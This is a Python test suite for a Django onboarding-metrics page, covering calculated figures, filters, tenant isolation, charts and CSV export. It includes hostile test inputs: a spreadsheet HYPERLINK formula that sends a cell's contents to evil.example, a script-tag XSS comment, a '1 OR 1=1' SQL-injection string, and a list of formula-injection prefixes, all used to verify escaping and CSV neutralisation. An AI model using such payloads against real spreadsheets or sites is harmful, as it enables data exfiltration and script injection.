"""The metrics page: hand-checked numbers, filters, CSV neutralisation, charts, fixed queries."""

from __future__ import annotations

import csv
import datetime as dt
import io
from unittest import mock

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import include, path

from accounts.models import Role, User
from accounts.services import add_member, create_tenant
from onboarding.charts import Bar, bar_chart, line_chart
from onboarding.health import ensure_formula
from onboarding.metrics import Filters, NpsStats, metrics_report, nps_summary
from onboarding.models import (
    Customer,
    HealthScore,
    Milestone,
    NpsResponse,
    Onboarding,
    Playbook,
    SupportTicket,
    Task,
)
from onboarding.views_metrics import neutralise
from portal import urls as portal_urls
from portal.tenancy.context import tenant_context

# Until the lead mounts onboarding.urls_metrics at /app/metrics/, these tests mount it themselves.
_mounted = any(getattr(p, "namespace", None) == "metrics" for p in portal_urls.urlpatterns)
urlpatterns = list(portal_urls.urlpatterns) + (
    [] if _mounted else [path("app/metrics/", include("onboarding.urls_metrics"))]
)
pytestmark = pytest.mark.urls(__name__)

TODAY = dt.date(2026, 3, 1)
NOW = dt.datetime(2026, 3, 1, 17, 0, tzinfo=dt.UTC)  # noon in New York
PASSWORD = "a-long-test-password-42"
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def utc(*args) -> dt.datetime:
    return dt.datetime(*args, tzinfo=dt.UTC)


class Fixture:
    """Five onboardings; every expected number in the tests below is worked out from this."""

    def __init__(self):
        self.tenant = create_tenant(name="Metrics", slug="metrics", time_zone="America/New_York")
        self.carol = User.objects.create_user("carol@metrics.example", PASSWORD, full_name="Carol")
        self.dan = User.objects.create_user("dan@metrics.example", PASSWORD, full_name="Dan")
        self.viewer = User.objects.create_user("view@metrics.example", PASSWORD, full_name="V")
        add_member(self.tenant, self.carol, Role.CSM)
        add_member(self.tenant, self.dan, Role.CSM)
        add_member(self.tenant, self.viewer, Role.VIEWER)
        with tenant_context(self.tenant):
            self.formula = ensure_formula(self.tenant)
            self.build()

    def onboarding(self, customer, model, owner, start):
        return Onboarding.objects.create(
            customer=Customer.objects.create(name=customer),
            name=f"{customer} rollout",
            model=model,
            owner=owner,
            start_date=start,
            playbook=Playbook.objects.get(model=model, is_default=True),
        )

    def milestone(self, o, name, *, first_value=False, achieved=None):
        return Milestone.objects.create(
            onboarding=o,
            name=name,
            due_date=o.start_date + dt.timedelta(days=20),
            is_first_value=first_value,
            achieved_at=achieved,
        )

    def task(self, o, milestone, completed=None):
        Task.objects.create(
            onboarding=o,
            milestone=milestone,
            title="t",
            owner_side="customer",
            due_date=o.start_date + dt.timedelta(days=10),
            status="complete" if completed else "in_progress",
            completed_at=completed,
        )

    def tickets(self, o, *opened):
        for i, at in enumerate(opened):
            SupportTicket.objects.create(
                customer=o.customer, external_id=f"{o.pk}-{i}", opened_at=at
            )

    def snapshot(self, o, kind, score, band):
        values = dict.fromkeys(("usage", "support", "engagement", "training", "on_time"), 50.0)
        HealthScore.objects.create(
            onboarding=o,
            formula=self.formula,
            kind=kind,
            for_date=o.start_date + dt.timedelta(days=30 if kind == "day30" else 90),
            milestones=50.0,
            score=score,
            band=band,
            **values,
        )

    def answer(self, o, who, score, comment=""):
        user = User.objects.create_user(f"{who}@client.example", full_name=who.title())
        NpsResponse.objects.create(onboarding=o, user=user, score=score, comment=comment)

    def build(self):
        # Alpha: high-touch (90 days), first value on day 10, every milestone in time.
        self.alpha = a = self.onboarding("Alpha", "high", self.carol, dt.date(2025, 10, 1))
        self.milestone(a, "First value", first_value=True, achieved=utc(2025, 10, 11, 14))
        self.milestone(a, "Go-live", achieved=utc(2025, 12, 20, 14))
        # Day 0 and day 89 count, day 90 does not.
        self.tickets(a, utc(2025, 10, 5, 12), utc(2025, 12, 29, 12), utc(2025, 12, 30, 12))
        self.snapshot(a, "day30", 72.0, "green")
        self.snapshot(a, "day90", 55.0, "yellow")
        self.answer(a, "ann", 10, "Great team")
        self.answer(a, "abe", 9)
        # Beta: first value achieved Nov 15 03:30Z, which is Nov 14 in New York: day 30.
        self.beta = b = self.onboarding("Beta", "high", self.dan, dt.date(2025, 10, 15))
        fv = self.milestone(b, "First value", first_value=True, achieved=utc(2025, 11, 15, 3, 30))
        self.task(b, fv, utc(2025, 11, 1, 12))
        self.task(b, fv, utc(2025, 11, 15, 3, 30))
        self.milestone(b, "Go-live")  # never reached; the period ended Jan 13
        self.snapshot(b, "day30", 35.0, "red")
        self.snapshot(b, "day90", 45.0, "yellow")
        self.answer(b, "bea", 6, "Too slow <script>alert(1)</script>")
        # A hostile customer name; mid-touch, still inside its 45 days, first value not reached.
        self.evil = e = self.onboarding(EVIL, "mid", self.carol, dt.date(2026, 2, 1))
        fv = self.milestone(e, "First value", first_value=True)
        self.task(e, fv, utc(2026, 2, 5, 12))
        self.task(e, fv)
        self.tickets(e, utc(2026, 2, 10, 12))  # its 90 days are not over
        # Another: low-touch (21 days), first value on day 5, last milestone after its period.
        self.sum = s = self.onboarding("@SUM(A1)", "low", None, dt.date(2025, 11, 3))
        self.milestone(s, "First value", first_value=True, achieved=utc(2025, 11, 8, 12))
        self.milestone(s, "Go-live", achieved=utc(2025, 11, 30, 12))
        self.tickets(s, *(utc(2025, 11, 10 + i, 12) for i in range(5)))
        self.snapshot(s, "day30", 80.0, "green")
        self.snapshot(s, "day90", 90.0, "green")
        self.answer(s, "sue", 8, "-fine")
        # Gamma: no milestones at all; its 90 days end today.
        self.gamma = self.onboarding("Gamma", "mid", self.dan, dt.date(2025, 12, 1))


@pytest.fixture
def fx(db):
    return Fixture()


def report(fx, **filters):
    with tenant_context(fx.tenant):
        return metrics_report(fx.tenant, Filters(**filters), today=TODAY)


class TestNumbers:
    def test_time_to_first_value(self, fx):
        r = report(fx)
        assert r.ttfv_overall.total == 5
        assert r.ttfv_overall.reached == [5, 10, 30]
        assert r.ttfv_overall.median == 10
        assert r.ttfv_overall.within_30 == 3
        assert {g.label: (g.total, g.reached, g.median) for g in r.ttfv_by_model} == {
            "High-touch": (2, [10, 30], 20),
            "Mid-touch": (2, [], None),
            "Low-touch": (1, [5], 5),
        }
        assert [(g.label, g.total, g.median) for g in r.ttfv_by_csm] == [
            ("Carol", 2, 10),
            ("Dan", 2, 30),
            ("Unassigned", 1, 5),
        ]
        assert r.ttfv_distribution == [
            ("0–7", 1),
            ("8–14", 1),
            ("15–30", 1),
            ("31–60", 0),
            ("61–90", 0),
            ("91+", 0),
        ]
        beta = next(row for row in r.rows if row.onboarding == fx.beta)
        assert beta.first_value_date == dt.date(2025, 11, 14)  # local date, not UTC's Nov 15

    def test_milestone_completion_within_period(self, fx):
        r = report(fx)
        assert (r.milestones.met, r.milestones.missed, r.milestones.open) == (1, 2, 1)
        assert r.milestones.rate == 33.3
        assert {g.label: g.rate for g in r.milestones_by_model} == {
            "High-touch": 50.0,
            "Mid-touch": None,
            "Low-touch": 0.0,
        }
        outcome = {row.onboarding.customer.name: row.milestone_outcome for row in r.rows}
        assert outcome == {
            "Alpha": "met",
            "Beta": "missed",
            EVIL: "in progress",
            "@SUM(A1)": "missed",
            "Gamma": "no milestones",
        }

    def test_health_at_day_30_and_90(self, fx):
        r = report(fx)
        assert r.day30.bands == {"green": 2, "yellow": 0, "red": 1}
        assert r.day90.bands == {"green": 1, "yellow": 2, "red": 0}
        assert (r.day30.median, r.day90.median) == (72.0, 55.0)
        dist = dict(r.day30.distribution)
        assert (dist["30–39"], dist["70–79"], dist["80–89"]) == (1, 1, 1)
        assert sum(dist.values()) == 3
        assert dict(r.day90.distribution)["90–100"] == 1

    def test_tickets_in_first_90_days(self, fx):
        r = report(fx)
        tickets = {row.onboarding.customer.name: row.tickets_90 for row in r.rows}
        assert tickets == {"Alpha": 2, "Beta": 0, EVIL: 1, "@SUM(A1)": 5, "Gamma": 0}
        assert sorted(r.tickets_complete) == [0, 0, 2, 5]  # the evil one is still in its window
        assert r.tickets_open_windows == 1
        assert (r.tickets_mean, r.tickets_median) == (1.8, 1.0)  # 7 / 4 = 1.75
        assert r.tickets_distribution[:3] == [("0", 2), ("1–2", 1), ("3–5", 1)]

    def test_nps(self, fx):
        nps = report(fx).nps
        assert (nps.count, nps.promoters, nps.passives, nps.detractors) == (4, 2, 1, 1)
        assert nps.score == 25  # (2 - 1) / 4
        assert [c.comment for c in nps.comments] == [
            "-fine",
            "Too slow <script>alert(1)</script>",
            "Great team",
        ]
        with tenant_context(fx.tenant):
            alpha = nps_summary(fx.alpha)
        assert (alpha.count, alpha.score) == (2, 100)


class TestFilters:
    def test_by_model(self, fx):
        r = report(fx, model="high")
        assert {row.onboarding.pk for row in r.rows} == {fx.alpha.pk, fx.beta.pk}
        assert r.ttfv_overall.median == 20
        assert r.nps.score == 33  # 10, 9, 6: (2 - 1) / 3

    def test_by_csm(self, fx):
        r = report(fx, csm=fx.carol.pk)
        assert {row.onboarding.pk for row in r.rows} == {fx.alpha.pk, fx.evil.pk}
        assert r.tickets_complete == [2]

    def test_by_start_month(self, fx):
        r = report(fx, month=dt.date(2025, 10, 1))
        assert {row.onboarding.pk for row in r.rows} == {fx.alpha.pk, fx.beta.pk}
        assert r.day30.bands == {"green": 1, "yellow": 0, "red": 1}

    def test_query_parsing_ignores_and_reports_bad_values(self):
        f, errors = Filters.from_query({"model": "mid", "csm": "7", "month": "2025-10"})
        assert (f.model, f.csm, f.month, errors) == ("mid", 7, dt.date(2025, 10, 1), [])
        f, errors = Filters.from_query({"model": "x", "csm": "1 OR 1=1", "month": "2025-13"})
        assert (f.model, f.csm, f.month) == ("", None, None)
        assert len(errors) == 3

    def test_other_tenants_never_count(self, fx):
        other = create_tenant(name="Other", slug="other-metrics")
        with tenant_context(other):
            o = Onboarding.objects.create(
                customer=Customer.objects.create(name="Alpha"),
                name="x",
                model="high",
                start_date=dt.date(2025, 10, 1),
            )
            NpsResponse.objects.create(
                onboarding=o, user=User.objects.create_user("z@z.example"), score=0
            )
        assert report(fx).nps.count == 4
        assert len(report(fx).rows) == 5


class TestQueries:
    def test_fixed_number_of_queries(self, fx):
        with tenant_context(fx.tenant), CaptureQueriesContext(connection) as small:
            metrics_report(fx.tenant, today=TODAY)
        with tenant_context(fx.tenant):
            for i in range(15):
                o = fx.onboarding(f"More {i}", "mid", fx.dan, dt.date(2025, 9, 1 + i))
                fv = fx.milestone(o, "First value", first_value=True)
                fx.task(o, fv, utc(2025, 9, 20, 12))
                fx.tickets(o, utc(2025, 9, 25, 12))
                fx.snapshot(o, "day30", 60.0, "yellow")
                fx.answer(o, f"more{i}", 9, "ok")
        with tenant_context(fx.tenant), CaptureQueriesContext(connection) as large:
            r = metrics_report(fx.tenant, today=TODAY)
        assert len(r.rows) == 20
        assert len(small.captured_queries) == len(large.captured_queries) == 5


def member_client(fx, user) -> Client:
    client = Client(HTTP_HOST="metrics.localhost")
    client.force_login(user)
    session = client.session
    session["_tenant_binding"] = str(fx.tenant.pk)
    session.save()
    return client


@pytest.fixture
def frozen_now():
    with mock.patch("django.utils.timezone.now", return_value=NOW):
        yield


class TestPage:
    def test_page_shows_numbers_and_charts(self, fx, frozen_now):
        response = member_client(fx, fx.viewer).get("/app/metrics/")
        assert response.status_code == 200
        html = response.content.decode()
        assert html.count("<svg") >= 10
        assert html.count('role="img"') >= 10
        assert "<title" in html
        assert ' style="' not in html  # CSP: no inline style attributes
        assert "<script>alert(1)</script>" not in html
        assert "Too slow &lt;script&gt;" in html
        assert "NPS 25" in html
        assert "33.3%" in html  # milestone completion
        # No mid-touch onboarding has reached first value: its median is missing, not zero.
        assert "Mid-touch: no data" in html and "Mid-touch: 0 days" not in html
        assert "/app/metrics/export.csv" in html

    def test_filters_apply_and_bad_ones_are_reported(self, fx, frozen_now):
        client = member_client(fx, fx.carol)
        html = client.get("/app/metrics/?model=low").content.decode()
        assert "1 onboarding matches the filters" in html
        assert "export.csv?model=low" in html
        bad = client.get("/app/metrics/?model=nope&month=13-2025")
        assert bad.status_code == 200
        assert "Unknown onboarding model" in bad.content.decode()

    def test_same_number_of_queries_for_more_onboardings(self, fx, frozen_now):
        client = member_client(fx, fx.viewer)
        client.get("/app/metrics/")  # warm the session and caches
        with CaptureQueriesContext(connection) as small:
            client.get("/app/metrics/")
        with tenant_context(fx.tenant):
            for i in range(10):
                o = fx.onboarding(f"Extra {i}", "high", fx.carol, dt.date(2025, 8, 1 + i))
                fx.milestone(o, "First value", first_value=True, achieved=utc(2025, 8, 20, 12))
                fx.answer(o, f"extra{i}", 3, "meh")
        with CaptureQueriesContext(connection) as large:
            client.get("/app/metrics/")
        assert len(small.captured_queries) == len(large.captured_queries)

    def test_members_only(self, fx, frozen_now):
        anonymous = Client(HTTP_HOST="metrics.localhost").get("/app/metrics/")
        assert anonymous.status_code == 302
        client_user = User.objects.create_user("client@x.example", PASSWORD)
        assert member_client(fx, client_user).get("/app/metrics/").status_code == 404
        assert member_client(fx, client_user).get("/app/metrics/export.csv").status_code == 404


class TestCsv:
    def rows(self, fx, query=""):
        response = member_client(fx, fx.viewer).get(f"/app/metrics/export.csv{query}")
        assert response.status_code == 200
        assert response["Content-Type"].startswith("text/csv")
        assert "attachment" in response["Content-Disposition"]
        return list(csv.reader(io.StringIO(response.content.decode())))

    def test_formula_cells_are_neutralised(self, fx, frozen_now):
        with tenant_context(fx.tenant):
            Onboarding.objects.filter(pk=fx.gamma.pk).update(name="\tTabbed")
        header, *rows = self.rows(fx)
        by_customer = {r[0]: dict(zip(header, r, strict=True)) for r in rows}
        assert "'" + EVIL in by_customer
        assert "'@SUM(A1)" in by_customer
        assert by_customer["'@SUM(A1)"]["NPS comments"] == "'-fine"
        assert by_customer["Gamma"]["Onboarding"] == "'\tTabbed"
        for cells in rows:
            for cell in cells:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell

    def test_values_and_filters(self, fx, frozen_now):
        header, *rows = self.rows(fx, "?model=high")
        assert [r[0] for r in rows] == ["Alpha", "Beta"]
        alpha = dict(zip(header, rows[0], strict=True))
        assert alpha["Days to first value"] == "10"
        assert alpha["Milestones within period"] == "met"
        assert (alpha["Health day 30"], alpha["Band day 30"]) == ("72.0", "green")
        assert alpha["Tickets in first 90 days"] == "2"
        assert alpha["NPS answers"] == "10 9"
        assert alpha["NPS comments"] == "Great team"

    @pytest.mark.parametrize(
        ("value", "expected"),
        [
            ("=1+2", "'=1+2"),
            ("+1", "'+1"),
            ("-1", "'-1"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            (" =1+2", "' =1+2"),
            ("\n=1+2", "'\n=1+2"),
            ("  @SUM(A1)", "'  @SUM(A1)"),
            ("\u3000=1+2", "'\u3000=1+2"),
            ("\x00\x01 -1", "'\x00\x01 -1"),
            ("\uff1d1+2", "'\uff1d1+2"),
            ("\uff20SUM(A1)", "'\uff20SUM(A1)"),
            ("\x01 \x01 =1+2", "'\x01 \x01 =1+2"),
            ("\ufeff=1+2", "'\ufeff=1+2"),
            ("\u200b=1+2", "'\u200b=1+2"),
            ("\x7f=1+2", "'\x7f=1+2"),
            ("plain", "plain"),
            (" plain", " plain"),
            ("a=b", "a=b"),
            (None, ""),
            (42, "42"),
        ],
    )
    def test_neutralise(self, value, expected):
        assert neutralise(value) == expected


@pytest.mark.parametrize(
    ("scores", "expected"),
    [
        ([10] * 1 + [8] * 7, 13),  # 12.5: half away from zero, not to even (12)
        ([0] * 1 + [8] * 7, -13),
        ([10, 9, 6], 33),
        ([10, 0], 0),
        ([], None),
    ],
)
def test_nps_rounds_half_away_from_zero(scores, expected):
    assert NpsStats([NpsResponse(score=s) for s in scores]).score == expected


class TestCharts:
    def test_bar_chart_is_accessible_and_escaped(self):
        svg = bar_chart([Bar("<b>x</b>", 3, "red"), ("y", 1)], title='A "title" <i>')
        assert svg.startswith("<svg") and 'role="img"' in svg and "aria-labelledby" in svg
        assert "&lt;b&gt;x&lt;/b&gt;" in svg and "<b>" not in svg
        assert "<title>&lt;b&gt;x&lt;/b&gt;: 3</title>" in svg
        assert "style=" not in svg and "<script" not in svg

    def test_a_group_without_data_is_not_drawn_as_zero(self):
        svg = bar_chart(
            [Bar("High-touch", 12.5), Bar("Low-touch", None), Bar("Zero", 0)],
            title="Median days",
            value_label="days",
        )
        assert svg.count("<rect") == 2  # High-touch and the real zero; no bar for no data
        assert "<title>Low-touch: no data</title>" in svg
        assert "<title>Zero: 0 days</title>" in svg
        assert "Low-touch: no data; Zero: 0 days" in svg  # the description screen readers get
        assert "Low-touch: 0" not in svg

    def test_units_are_singular_for_one(self):
        svg = bar_chart([("a", 1), ("b", 2)], title="t", value_label="onboardings")
        assert "<title>a: 1 onboarding</title>" in svg and "<title>b: 2 onboardings</title>" in svg
        assert "<title>r: 40%</title>" in bar_chart([("r", 40)], title="t", value_label="%")

    def test_empty_charts_say_so(self):
        assert "No data yet" in bar_chart([], title="t")
        assert "No data yet" in line_chart([], title="t")

    def test_line_chart(self):
        svg = line_chart(
            [(dt.date(2025, 11, 1), 40.0), (dt.date(2025, 11, 14), 72.5)],
            title="Trend",
            y_max=100,
            thresholds=[(70, "green"), (40, "yellow")],
        )
        assert "<polyline" in svg and svg.count("<circle") == 2
        assert "Nov 14, 2025: 72.5" in svg
        assert 'stroke-dasharray="4 3"' in svg
        assert ">green from 70</text>" in svg and ">yellow from 40</text>" in svg
